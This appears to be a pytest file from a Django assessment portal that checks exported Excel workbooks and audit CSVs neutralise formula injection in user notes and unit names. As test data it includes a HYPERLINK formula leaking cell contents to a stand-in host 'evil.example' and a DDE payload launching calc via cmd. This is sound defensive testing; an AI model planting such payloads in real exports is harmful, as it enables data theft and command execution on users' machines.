"""Formula injection: user text in every workbook and CSV the portal writes stays text."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook

from assessments.excel_data import lke_export_data
from assessments.models import Answer, Assessment
from assessments.reports import xlsx as layout
from assessments.reports.xlsx import build_lke_workbook
from assessments.reports.xlsx_read import read_lke
from assessments.selectors import item_rows
from assessments.services import answer_save, lke_import
from tests.factories import MembershipFactory, UserFactory
from zi_portal.common.spreadsheet import cell_text, csv_text, csv_writer, workbook_bytes

from .helpers import cell, load, save

HOSTILE = {
    "P.1.i.a": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "P.1.i.b": "+SUM(1,2)",
    "P.1.ii.a": "-2+3",
    "P.1.ii.b": "@SUM(1,2)",
    "P.1.iii.a": "=1+2\nbaris kedua",
}


def _set_notes(assessment, notes: dict[str, str], side: str) -> None:
    items = item_rows(assessment)
    for code, note in notes.items():
        current = Answer.objects.filter(assessment=assessment, item__code=code).first()
        raw = getattr(current, f"{side}_answer") if current else None
        answer_save(actor=None, assessment=assessment, item=items[code], raw_answer=raw, note=note,
                    expected_version=current.version if current else None, side=side)


@pytest.mark.django_db
def test_lke_export_writes_formula_like_notes_as_text_and_import_compares_equal(filled):
    a = filled.assessment
    _set_notes(a, HOSTILE, "unit")
    content = build_lke_workbook(lke_export_data(a))
    ws = load(content)[layout.SHEET_LKE]
    for code, note in HOSTILE.items():
        c = cell(ws, code, "unit_note")
        assert (c.value, c.data_type) == (note, "s")
        assert c.quotePrefix  # stays text when edited in Excel
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>HYPERLINK" not in sheet and "<f>1+2" not in sheet
    # the deliberate formulas are still formulas, with their cached figures
    assert cell(ws, "P.1.i.a", "unit_value").data_type == "f"
    # the import reads the original text back: no spurious change, for the file as exported ...
    plan = lke_import.lke_import_plan(assessment=a, workbook=read_lke(content), side="unit")
    assert plan.changes == [] and plan.errors == []
    # ... and after a reader opened and saved it with another answer changed
    wb = load(content)
    old = Answer.objects.get(assessment=a, item__code="P.2.i.b").unit_answer
    cell(wb[layout.SHEET_LKE], "P.2.i.b", "unit_answer").value = "E" if old != "E" else "A"
    resaved = save(wb)
    assert cell(load(resaved)[layout.SHEET_LKE], "P.1.i.b", "unit_note").value == "+SUM(1,2)"
    plan = lke_import.lke_import_plan(assessment=a, workbook=read_lke(resaved), side="unit")
    assert [(c.code, c.field) for c in plan.changes] == [("P.2.i.b", "answer")]


@pytest.mark.django_db
def test_lke_export_tpi_notes_and_unit_name_are_text(filled):
    a = filled.assessment
    a.unit.name = "=cmd|' /C calc'!A0"
    a.unit.save()
    Assessment.objects.filter(pk=a.pk).update(state="in_review")
    a.refresh_from_db()
    _set_notes(a, {"P.1.i.a": "=1+1"}, "tpi")
    wb = load(build_lke_workbook(lke_export_data(a)))
    c = cell(wb[layout.SHEET_LKE], "P.1.i.a", "tpi_note")
    assert (c.value, c.data_type) == ("=1+1", "s")
    assert wb[layout.SHEET_LKE]["A1"].data_type == "s" and "=cmd|" in wb[layout.SHEET_LKE]["A1"].value


@pytest.mark.django_db
def test_recap_writes_a_formula_like_unit_name_as_text(filled, login):
    filled.unit_a.name = '=HYPERLINK("http://evil.example","Dinas")'
    filled.unit_a.save()
    wb = load(login(filled.leadership).get(reverse("assessments:report_recap_xlsx"), {"period": 2026}).content)
    ws = wb.active
    names = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2) for r in range(4, ws.max_row + 1)}
    assert (names["UNIT-A"].value, names["UNIT-A"].data_type) == (filled.unit_a.name, "s")
    assert names["UNIT-A"].quotePrefix
    # the recap's figures are still numbers
    assert isinstance(ws.cell(row=4, column=5).value, float)


@pytest.mark.django_db
def test_audit_csv_writes_formula_like_cells_as_readable_text(lke, login):
    # not a valid username (the factory would refuse it); only a direct write could make it
    hostile = UserFactory.build(username="=1+2")
    hostile.save()
    MembershipFactory(unit=lke.unit_a, user=hostile)
    item = item_rows(lke.assessment)["P.1.i.a"]
    answer_save(actor=hostile, assessment=lke.assessment, item=item, raw_answer="Ya", note="-1+1",
                expected_version=None)
    response = login(lke.admin).get(reverse("assessments:assessment_audit_csv", args=[lke.assessment.pk]))
    assert response["Cache-Control"] == "private, no-store"
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    mine = [r for r in rows[1:] if r[1].endswith("=1+2")]
    assert mine and all(r[1] == "'=1+2" for r in mine)  # the text after the apostrophe is the original
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
    note = next(r for r in mine if r[4] == "unit_note")
    assert note[6] == '"-1+1"'  # JSON of the note: starts with a quote, already inert


def test_csv_text_prefixes_only_formula_like_text():
    assert [csv_text(v) for v in ("=1+2", "+1+2", "-1+2", "@A1", "\t=1", "\r=1")] == [
        "'=1+2", "'+1+2", "'-1+2", "'@A1", "'\t=1", "'\r=1"]
    assert [csv_text(v) for v in ("-5", "+62", "-1.5", "-1,5", "1e3", "teks", "", None, 7, -3)] == [
        "-5", "+62", "-1.5", "-1,5", "1e3", "teks", "", None, 7, -3]
    out = io.StringIO()
    csv_writer(out).writerow(["=A1", "ok", -2])
    assert out.getvalue() == "'=A1,ok,-2\r\n"


def test_workbook_bytes_keeps_declared_formulas_and_makes_the_rest_text():
    wb = Workbook()
    ws = wb.active
    ws.title = "S"
    ws["A1"] = "=1+2"  # user text that openpyxl takes for a formula
    ws["A2"] = "=SUM(B1:B2)"  # declared
    ws["A3"] = "-1+2"
    ws["A4"] = "biasa"
    ws["A5"] = cell_text("a\x01b\x1bc")
    back = load(workbook_bytes(wb, formulas={"S": {"A2"}}))["S"]
    assert (back["A1"].value, back["A1"].data_type, back["A1"].quotePrefix) == ("=1+2", "s", True)
    assert (back["A2"].value, back["A2"].data_type) == ("=SUM(B1:B2)", "f")
    assert (back["A3"].value, back["A3"].data_type, back["A3"].quotePrefix) == ("-1+2", "s", True)
    assert (back["A4"].value, back["A4"].quotePrefix) == ("biasa", False)
    assert back["A5"].value == "a\ufffdb\ufffdc"
    # a workbook that declares nothing has no formula at all
    wb = Workbook()
    wb.active["A1"] = "=SUM(1)"
    assert load(workbook_bytes(wb)).active["A1"].data_type == "s"


@pytest.mark.django_db
def test_lke_export_survives_control_characters_in_a_note(filled):
    """openpyxl refuses control characters XML cannot carry; the export writes U+FFFD instead of
    failing, and the preview shows that note as changed rather than hiding the difference."""
    a = filled.assessment
    _set_notes(a, {"P.1.i.a": "a\x1bb"}, "unit")
    content = build_lke_workbook(lke_export_data(a))
    assert cell(load(content)[layout.SHEET_LKE], "P.1.i.a", "unit_note").value == "a\ufffdb"
    plan = lke_import.lke_import_plan(assessment=a, workbook=read_lke(content), side="unit")
    assert [(c.code, c.field, c.old, c.new) for c in plan.changes] == [("P.1.i.a", "note", "a\x1bb", "a\ufffdb")]
